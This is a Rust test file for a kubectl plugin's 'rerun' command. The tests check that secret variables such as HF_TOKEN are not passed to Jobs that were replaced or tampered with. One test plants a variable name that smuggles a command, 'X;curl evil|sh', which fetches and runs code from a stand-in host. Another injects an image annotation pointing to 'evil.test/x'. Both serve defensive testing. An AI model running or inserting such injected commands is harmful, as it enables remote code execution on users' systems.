//! `rerun` of a run with secret variables.

use std::fs;

use serde_json::{Value, json};

use super::{ENCODED, forget_calls, referred, secret, world};
use crate::support::World;

/// A run with these secret variables that has ended, as the cluster shows it.
fn ended_run(world: &mut World, args: &[&str]) -> Value {
    world.run(&[&["run"], args, &["train.py"]].concat()).ok();
    let mut job = world.job();
    job["metadata"]["uid"] = "u-7".into();
    job["status"]["conditions"] = json!([{"type": "Complete", "status": "True"}]);
    world.shows(std::slice::from_ref(&job));
    forget_calls(world);
    job
}

#[test]
fn a_run_once_more_takes_the_variables_that_were_named_here() {
    let mut world = world();
    let job = ended_run(&mut world, &["--secret-env", "HF_TOKEN", "--secret-env", "HOME"]);
    let old = job["metadata"]["name"].as_str().unwrap();
    world.write("vision/more.env", "HOME=/elsewhere\nNOT_ASKED_FOR=x\n");
    world.run(&["rerun", old, "--env-file", "more.env"]).ok();
    let job = world.job();
    let run = job["metadata"]["name"].as_str().unwrap();
    assert_ne!(run, old);
    let own = format!("{run}-env");
    assert_eq!(referred(&job), [("HF_TOKEN", own.as_str()), ("HOME", own.as_str())]);
    assert_eq!(job["spec"]["suspend"], true);
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": ENCODED, "HOME": "L2Vsc2V3aGVyZQ=="}));
    world.env("HF_TOKEN", "");
    let refused = world.run(&["rerun", old]);
    assert!(refused.code == 2 && refused.stderr.contains("the variable `HF_TOKEN` is empty or not set"), "{refused:?}");
    assert!(!world.read("home/.local/state/mrunner/submitted.json").contains("ary"));
}

#[test]
fn a_name_that_only_the_cluster_gives_takes_no_value_away() {
    let mut world = world();
    world.write("vision/own.env", "HF_TOKEN=of the file\n");
    let job = ended_run(&mut world, &["--env-file", "own.env"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    let refusal = |world: &World, args: &[&str], cause: &str| {
        let words = format!(
            "error: nothing was submitted: the run `train-[ID]` asks for secret variables: `HF_TOKEN`
  cause: {cause}
hint: if the run may have your own variables, name them: `kubectl mrunner rerun -n vision train-[ID] --secret-env HF_TOKEN`
hint: or give the values in a file: `kubectl mrunner rerun -n vision train-[ID] --env-file FILE`
"
        );
        world.run(&[&["rerun", &old], args].concat()).fails(2, &words);
        assert!(world.calls_with(" create ").is_empty() && world.journals().is_empty());
    };
    refusal(&world, &[], "their values came from a file, and are kept nowhere");
    refusal(&world, &["--dry-run"], "their values came from a file, and are kept nowhere");
    // somebody else's Job of the same name, with all that the first one said of itself
    let mut evil = job.clone();
    evil["metadata"]["uid"] = "u-8".into();
    world.show(&[evil.clone()]);
    let replaced = "the Job of this name is not the one that this machine submitted: somebody has replaced it";
    refusal(&world, &[], replaced);
    // one that another machine, or nobody, submitted
    let note = world.path("home/.local/state/mrunner/submitted.json");
    for text in ["", "[", "{}", "[{\"run\": 1}]"] {
        fs::write(&note, text).unwrap();
        refusal(&world, &[], "this machine has no record of submitting the run");
    }
    fs::remove_file(&note).unwrap();
    refusal(&world, &[], "this machine has no record of submitting the run");
    // a file that somebody else wrote gives no name either
    world.write("vision/bare.env", "HF_TOKEN\n");
    world.run(&["rerun", &old, "--env-file", "bare.env"]).fails(
        2,
        "error: `[DIR]/vision/bare.env` names `HF_TOKEN` without a value
hint: to pass your own variables, name them: `--secret-env HF_TOKEN`
",
    );
    world.run(&["rerun", &old, "--secret-env", "HOME"]).fails(
        2,
        "error: the run `train-[ID]` has no secret variable `HOME`\nhint: its secret variables: `HF_TOKEN`\n",
    );
    assert!(world.calls_with(" create ").is_empty());
    world.run(&["rerun", &old, "--env-file", "bare.env", "--secret-env", "HF_TOKEN"]).ok();
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": ENCODED}));
    forget_calls(&world);
    world.run(&["rerun", &old, "--env-file", "own.env"]).ok();
    assert_eq!(secret(&world)["data"], json!({"HF_TOKEN": "b2YgdGhlIGZpbGU="}));
}

/// Whoever may patch Jobs can change what a run's pods are labelled with, which others in the cluster act upon.
#[test]
fn values_go_to_no_pod_that_somebody_else_has_shaped() {
    let mut world = world();
    let mut job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    world.run(&["rerun", "--dry-run", &old]).ok();
    let config = job["metadata"]["annotations"]["mrunner/config"].as_str().unwrap();
    let mut config: Value = serde_json::from_str(config).unwrap();
    config["pod"] = json!({"annotations": {"inject.example.com/image": "evil.test/x"}});
    job["metadata"]["annotations"]["mrunner/config"] = config.to_string().into();
    world.show(&[job]);
    let outcome = world.run(&["rerun", &old]);
    let cause = "  cause: the annotation `mrunner/config` of the Job is not the one that this machine submitted: ";
    assert!(outcome.code == 2 && outcome.stderr.contains(cause), "{outcome:?}");
    assert!(world.calls_with(" create ").is_empty());
}

/// A hint is there to be typed.
#[test]
fn a_name_that_is_a_command_is_in_no_hint() {
    let mut world = world();
    let mut job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].as_array_mut().unwrap();
    let secret = env.iter_mut().find(|variable| variable["name"] == "HF_TOKEN").unwrap();
    secret["name"] = "X;curl evil|sh".into();
    job["metadata"]["uid"] = "u-8".into();
    world.show(&[job]);
    let outcome = world.run(&["rerun", &old]);
    let words = "error: the Job of the run `train-[ID]` has a secret variable with an invalid name: `X;curl evil|sh`\n";
    assert!(outcome.code == 1 && outcome.stderr.contains(words), "{outcome:?}");
    assert!(!outcome.stderr.contains("--secret-env X"), "{outcome:?}");
}

#[test]
fn the_same_run_of_another_cluster_is_another_run() {
    let mut world = world();
    let job = ended_run(&mut world, &["--secret-env", "HF_TOKEN"]);
    let old = job["metadata"]["name"].as_str().unwrap().to_owned();
    let outcome = world.run(&["--kube-context", "kube-other", "rerun", "-n", "vision", &old]);
    assert!(
        outcome.code == 2 && outcome.stderr.contains("this machine has no record of submitting the run"),
        "{outcome:?}"
    );
    world.run(&["rerun", &old]).ok();
}
